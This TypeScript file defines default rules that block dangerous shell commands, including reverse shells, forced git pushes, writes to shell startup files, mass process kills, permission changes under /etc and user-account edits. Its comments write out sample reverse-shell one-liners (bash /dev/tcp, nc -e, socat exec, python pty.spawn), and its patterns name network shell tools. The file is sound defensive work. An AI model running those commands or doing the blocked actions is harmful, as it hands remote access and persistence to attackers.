import type { CommandRule } from "./command-rule.ts";
import { end, etc, readsProgramFromStdin, redirectTo, shells, startupFile } from "./rule-pieces.ts";

/*
 * Default rules against a way in or a way to stay: a shell handed to the network, a
 * rewritten shared history, startup files, accounts and the files that define them, and
 * killing every process of a user. Written as default-rules.ts's are (anchored at one
 * command unit, `^HEAD(?=.*A)(?=.*B)...`, each piece proven linear by recheck in
 * default-rules-redos.int.test.ts).
 */

// A flag cluster with an `i` in it (`-i`, `-li`), written so that it splits one way only.
const interactive = String.raw`-[a-hj-zA-Z]*i[a-zA-Z]*`;
// A socket as a shell redirect target (`>& /dev/tcp/host/port`, `5<> /dev/udp/...`).
const socketRedirect = String.raw`(?:\d{0,3}|&)(?:<>|>&|>>?|<) /dev/(?:tcp|udp)/`;
const netcats = String.raw`(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd|telnet|socat)`;

export const accessCommandRules: readonly CommandRule[] = [
  {
    id: "reverse-shell",
    pattern: [
      // nc -e /bin/sh host port, ncat --sh-exec 'bash' host port
      String.raw`^(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)(?= )(?=.* (?:-[a-zA-Z]*[ec]|--exec|--sh-exec|--lua-exec)(?: |=|$))`,
      // socat exec:bash tcp:host:port
      String.raw`^socat(?= )(?=.* (?:exec|EXEC|system|SYSTEM):)(?=.* (?:tcp|TCP|udp|UDP|ssl|SSL|openssl|OPENSSL)[^ :]*:)`,
      // bash -i >& /dev/tcp/host/port 0>&1, sh -i 5<> /dev/tcp/host/port 0<&5
      String.raw`^${shells}(?= )(?=.* ${socketRedirect})(?=.* (?:${interactive}|0>&1|0?<&\d{1,3}|0<>)${end})`,
      // exec 5<>/dev/tcp/host/port: a socket opened on the shell's own descriptors
      String.raw`^exec(?= )(?=.* \d{0,3}<> /dev/(?:tcp|udp)/)`,
      // cat f | sh -i 2>&1 | nc host port > f
      String.raw`^${shells}(?= )(?=[^|]* ${interactive}${end})(?=.* \| ${netcats}${end})`,
      // telnet host port | sh
      String.raw`^${netcats}${end}(?=.* \| ${readsProgramFromStdin})`,
      // python -c 'import socket,pty; s.connect(...); pty.spawn("/bin/sh")'
      String.raw`^(?:python[\d.]{0,6}|perl|ruby|php|lua)(?= )(?=.*(?:connect\(|fsockopen|TCPSocket))(?=.*(?:pty\.spawn|subprocess|dup2|/bin/(?:ba|z|da)?sh))`,
    ].join("|"),
    reason: "hands a shell to whoever listens at the other end of a network connection (a reverse shell)",
    severity: "error",
    scope: "command",
  },
  {
    id: "git-force-push",
    pattern: [String.raw`-[a-eg-zA-Z]*f[a-zA-Z]*${end}`, String.raw`--(?:force|mirror)[^ ]*${end}`, String.raw`\+[^ ]`]
      .map((option) => String.raw`^git(?= )(?=.* push${end})(?=.* ${option})`)
      .join("|"),
    reason: "a forced push rewrites a shared branch's history and can destroy others' commits",
    severity: "error",
    scope: "command",
  },
  {
    id: "shell-startup-write",
    pattern: [
      `^${redirectTo(startupFile)}`,
      String.raw`^(?:tee|truncate)(?= )(?=.* ${startupFile})`,
      String.raw`^(?:cp|mv|install|ln|rsync|scp)(?= )(?=.* ${startupFile}[^ ]*$)`,
      String.raw`^dd(?= )(?=.* of=${startupFile})`,
      String.raw`^(?:sed|perl)(?= )(?=.* (?:-[a-hj-zA-Z]*i\S*|--in-place\S*)${end})(?=.* ${startupFile})`,
    ].join("|"),
    reason: "writes a shell startup file (~/.bashrc, ~/.profile): it runs in every later login, long after the run",
    severity: "error",
    scope: "command",
  },
  {
    id: "kill-user-processes",
    pattern: String.raw`^(?:pkill|killall|skill)(?= )(?=.* (?:-[uU]|--(?:e|r)?uid|--user)(?: |=)?[^ -][^ ]*(?: -[^ ]+)?$)|^killall5${end}`,
    reason: "kills every process of a user (pkill -u, killall -u with no name), the worker and other runs included",
    severity: "error",
    scope: "command",
  },
  {
    id: "chmod-etc",
    pattern: String.raw`^(?:chmod|chown|chgrp|chattr|setfacl)(?= )(?=.* ${etc}/)`,
    reason: "changes who may read or write system configuration (/etc/shadow, /etc/passwd, /etc/sudoers)",
    severity: "error",
    scope: "command",
  },
  {
    id: "user-accounts",
    pattern: String.raw`^(?:useradd|adduser|usermod|userdel|deluser|groupadd|addgroup|groupmod|delgroup|gpasswd|passwd|chpasswd|newusers|vipw|vigr|visudo|chsh|chfn)${end}`,
    reason: "adds, changes or removes a user account, a group or a password (a uid-0 account is root)",
    severity: "error",
    scope: "command",
  },
];
